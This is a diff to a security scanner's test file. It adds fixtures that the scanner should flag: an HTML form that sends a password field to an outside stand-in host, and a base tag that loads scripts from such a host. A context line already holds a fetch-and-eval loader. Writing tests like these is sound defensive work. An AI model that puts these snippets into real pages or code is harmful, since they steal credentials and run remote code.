@@ -106,6 +106,18 @@ const PLACES: readonly [what: string, fact: string, name: string, text: string][
     'words.dict',
     "const h=require('https');h.get('https://example.invalid',r=>r.on('data',d=>eval(d+'')))",
   ],
+  [
+    'a form that posts a password to another host',
+    'threat.exfiltration-host',
+    'a.html',
+    '<form action="https://example.invalid/in"><input type="password" name="p"></form>',
+  ],
+  [
+    'a script behind the base of another host',
+    'threat.dependency-source',
+    'a.html',
+    '<base href="https://example.invalid/"><script src="app.js"></script>',
+  ],
 ]
 
 describe('code of a page, a component or a setting', () => {
@@ -123,6 +135,7 @@ describe('honest pages and components', () => {
       'a.svg',
       '<svg xmlns="http://www.w3.org/2000/svg"><image href="data:image/png;base64,iVBORw0KGgo="/></svg>',
     ],
+    ['a.html', '<base href="/app/"><form action="/in"><input type="password"></form>'],
     ['words.dict', 'variable\nconstant\nfunction\nrequire\n'],
   ])('%s is read to its end without a finding', (name, text) => {
     const { status, findings } = scan(name, text)
